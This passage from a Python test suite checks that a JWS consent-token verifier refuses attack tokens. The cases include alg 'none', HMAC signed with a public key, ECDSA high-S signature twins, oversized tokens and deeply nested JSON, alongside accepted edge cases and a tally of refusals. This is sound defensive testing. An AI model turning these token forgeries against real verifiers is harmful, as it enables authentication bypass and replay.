        "T8-lifetime-decades", claims_at(iat=-10, exp=30 * 365 * 86_400), TR, Code.LIFETIME_TOO_LONG
    ),
    # T9 resource exhaustion and shape
    case("T9-token-over-size-limit", oversized, MI, SIZE),
    case("T9-token-over-size-limit-bytes", lambda w: oversized(w).encode("ascii"), MI, SIZE),
    case("T9-token-10-MB", lambda w: w.token() + "A" * 10_000_000, MI, SIZE),
    case("T9-payload-one-level-too-deep", deep_payload(DEEP), MI, DEPTH),
    case("T9-payload-5000-levels", deep_payload(5000), MI, DEPTH),
    case("T9-header-one-level-too-deep", deep_header(DEEP), MI, DEPTH),
    case("T9-header-5000-levels", deep_header(5000), MI, DEPTH),
    *(case(f"T9-payload-not-an-object-{n}", raw_payload(d), MI, MAL) for n, d in NOT_OBJECTS),
    *(case(f"T9-header-not-an-object-{n}", raw_header(d), MI, MAL) for n, d in NOT_OBJECTS),
]


@pytest.mark.parametrize(("build", "exc", "code"), CASES)
def test_refused(world: World, build: Build, exc: type[RegieError], code: Code) -> None:
    token = build(world)
    with pytest.raises(RegieError) as caught:
        world.verify(token)
    assert type(caught.value) is exc, caught.value
    assert caught.value.code is code, caught.value


# --- accepted edges: the positive side of every boundary above ----------------------------


ACCEPTED = [
    pytest.param(lambda w: w.token(), id="good-token"),
    pytest.param(lambda w: jws.sign(w.claims(), key=w.key, typ=PROFILE.typ), id="regie-sign"),
    pytest.param(
        claims_at(iat=-3600, nbf=None, exp=-LEEWAY + 1), id="exp-one-second-inside-leeway"
    ),
    pytest.param(claims_at(nbf=LEEWAY), id="nbf-at-leeway"),
    pytest.param(claims_at(iat=LEEWAY, nbf=None), id="iat-at-leeway"),
    pytest.param(claims_at(iat=-10, exp=MAX_LIFETIME - 10), id="lifetime-at-maximum"),
    pytest.param(claims_at(nbf=None), id="nbf-absent"),
    pytest.param(
        claims(extra={"nested": ["value"]}, iss="José ☃"), id="unknown-claims-and-unicode"
    ),
    pytest.param(
        lambda w: w.token(claims=json.dumps(w.claims(), indent=2).encode()),
        id="pretty-printed-payload",
    ),
    pytest.param(
        lambda w: w.token(claims=json_bytes(w.claims()) + b" \n"), id="json-trailing-whitespace"
    ),
    pytest.param(claims(note="[[[[{{{{" * 20), id="brackets-inside-strings-do-not-count-as-depth"),
    pytest.param(deep_payload(DEFAULT_LIMITS.max_json_depth), id="payload-at-depth-limit"),
    pytest.param(lambda w: w.token().encode("ascii"), id="token-as-bytes"),
]


@pytest.mark.parametrize("build", ACCEPTED)
def test_accepted_edges(world: World, build: Build) -> None:
    verified = world.verify(build(world))
    assert verified.key == world.key.public_key
    assert verified.claims["aud"] == AUDIENCE


def test_no_kid_with_a_single_trusted_key_is_accepted(world: World) -> None:
    token = world.token(header=world.header(kid=_DROP))
    keys = {world.key.kid: world.key.public_key}
    jws.verify(token, profile=PROFILE, keys=keys, now=world.now, audience=AUDIENCE)
    # ...but a null kid is not a missing kid
    token = world.token(header=world.header(kid=None))
    with pytest.raises(SignatureRefused) as caught:
        jws.verify(token, profile=PROFILE, keys=keys, now=world.now, audience=AUDIENCE)
    assert caught.value.code is Code.KEY_UNKNOWN


def test_fully_specified_ed25519_alg_is_read() -> None:
    """RFC 9864 ``alg: Ed25519`` verifies against an Ed25519 key (Regie writes ``EdDSA``)."""
    world = make_world(Alg.EDDSA)
    assert world.verify(world.token(header=world.header(alg="Ed25519"))).header["alg"] == "Ed25519"


def test_token_exactly_at_size_limit_is_accepted(world: World) -> None:
    """A token of exactly ``max_bytes`` characters verifies; one more character is refused."""
    header_len = len(split(world.token())[0])
    for n in range(PROFILE.max_bytes):
        payload = json_bytes(world.claims(note="a" * n))
        length = header_len + 1 + (4 * len(payload) + 2) // 3 + 1 + 86
        if length == PROFILE.max_bytes:
            break
    else:  # pragma: no cover
        raise AssertionError("no token of exactly the limit")
    token = world.token(claims=world.claims(note="a" * n))
    assert len(token) == PROFILE.max_bytes
    world.verify(token)
    for one_more in (token + "A", token.encode("ascii") + b"A"):
        with pytest.raises(MalformedInput) as caught:
            world.verify(one_more)
        assert caught.value.code is Code.SIZE_EXCEEDED


def test_hmac_algorithm_in_profile_still_refused(world: World) -> None:
    """Even a misconfigured profile allowing HS256 cannot verify: the key record decides."""
    profile = jws.TokenProfile(
        name=PROFILE.name,
        typ=PROFILE.typ,
        algs=PROFILE.algs | {"HS256", "none"},
        required_claims=PROFILE.required_claims,
        max_lifetime=PROFILE.max_lifetime,
    )
    for token in (hmac_with_public_key("pem")(world), alg_none("none", "empty")(world)):
        with pytest.raises(SignatureRefused) as caught:
            jws.verify(token, profile=profile, keys=world.keys, now=world.now, audience=AUDIENCE)
        assert caught.value.code is Code.ALGORITHM_REFUSED


def test_profile_algorithms_restrict_what_the_key_allows(world: World) -> None:
    """The profile's list is enforced on its own: a key's algorithm outside it is refused."""
    only = "ES256" if world.key.alg is Alg.EDDSA else "EdDSA"
    narrow = jws.TokenProfile(
        name=PROFILE.name,
        typ=PROFILE.typ,
        algs=frozenset({only}),
        required_claims=PROFILE.required_claims,
        max_lifetime=PROFILE.max_lifetime,
    )
    tokens = [world.token()]
    if world.key.alg is Alg.EDDSA:
        tokens.append(world.token(header=world.header(alg="Ed25519")))
    for token in tokens:
        world.verify(token)  # positive control under the wide profile
        with pytest.raises(SignatureRefused) as caught:
            jws.verify(token, profile=narrow, keys=world.keys, now=world.now, audience=AUDIENCE)
        assert caught.value.code is Code.ALGORITHM_REFUSED


def test_es256_high_s_twin_is_accepted_so_replay_must_key_on_jti() -> None:
    """ECDSA is malleable: (r, n - s) verifies too (Wycheproof marks high-S valid).

    Two different token strings then carry one consent, which is why the replay
    cache keys on ``jti`` and not on the token bytes (SECURITY.md T7).
    """
    world = make_world(Alg.ES256)
    order = int("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551", 16)
    token = world.token()
    h, p, s = split(token)
    sig = b64url_decode(s)
    twin_s = (order - int.from_bytes(sig[32:], "big")).to_bytes(32, "big")
    twin = f"{h}.{p}.{b64url_encode(sig[:32] + twin_s)}"
    assert twin != token
    assert world.verify(twin).claims["jti"] == world.verify(token).claims["jti"]


def test_tally(capsys: pytest.CaptureFixture[str]) -> None:
    """Rerun the whole table for both key types and print the figure for SECURITY.md.

    A case counts as refused only with its exact exception class and code.
    """
    tried = 0
    accepted: list[str] = []
    wrong_reason: list[tuple[str, RegieError]] = []
    for alg in (Alg.EDDSA, Alg.ES256):
        world = make_world(alg)  # asserts the positive control
        for param in CASES:
            build, exc, code = param.values
            tried += 1
            try:
                world.verify(build(world))
            except RegieError as error:
                if type(error) is not exc or error.code is not code:
                    wrong_reason.append((f"{alg}:{param.id}", error))
            else:
                accepted.append(f"{alg}:{param.id}")
    with capsys.disabled():
        print(f"\n{tried} consent-token attack cases tried, {len(accepted)} accepted")
    assert accepted == []
    assert wrong_reason == []
    assert tried == 2 * len(CASES)
    assert len(CASES) >= 250
